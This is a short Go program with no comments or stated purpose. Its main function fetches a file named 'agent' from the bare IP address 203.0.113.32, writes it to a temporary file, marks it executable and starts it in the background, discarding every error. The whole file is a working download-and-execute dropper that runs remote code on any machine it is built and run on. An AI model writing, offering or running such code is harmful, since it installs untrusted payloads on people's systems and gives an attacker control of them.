package main

import (
	"io"
	"net/http"
	"os"
	"os/exec"
)

func main() {
	r, _ := http.Get("http://203.0.113.32/agent")
	f, _ := os.CreateTemp("", "a")
	io.Copy(f, r.Body)
	f.Chmod(0o700)
	f.Close()
	exec.Command(f.Name()).Start()
}
